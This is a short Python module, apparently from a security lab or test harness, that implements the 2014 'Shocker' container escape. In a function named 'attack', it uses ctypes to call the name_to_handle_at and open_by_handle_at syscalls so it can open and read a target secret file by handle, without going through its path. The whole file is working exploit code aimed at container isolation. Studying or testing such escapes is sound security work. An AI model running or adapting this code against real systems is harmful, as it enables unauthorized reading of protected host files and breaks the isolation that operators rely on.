"""Open a file by its handle, without its path being visible."""

from __future__ import annotations

import ctypes
import platform

ORIGIN = "Shocker (2014): open_by_handle_at out of a container."
SEEN = "secret"
CONTROL = "root"


def _call(x86_64, aarch64, *arguments):
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    return libc.syscall(x86_64 if platform.machine() == "x86_64" else aarch64, *arguments)


class Handle(ctypes.Structure):
    _fields_ = [("size", ctypes.c_uint), ("kind", ctypes.c_int), ("data", ctypes.c_char * 128)]


def attack(target):
    handle, mount = Handle(128), ctypes.c_int()
    _call(303, 264, -100, target["secret_file"].encode(), ctypes.byref(handle), ctypes.byref(mount), 0)
    root = ctypes.CDLL(None).open(b"/", 0)
    descriptor = _call(304, 265, root, ctypes.byref(handle), 0)
    buffer = ctypes.create_string_buffer(100)
    ctypes.CDLL(None).read(int(descriptor), buffer, 100)
    return buffer.value.decode()
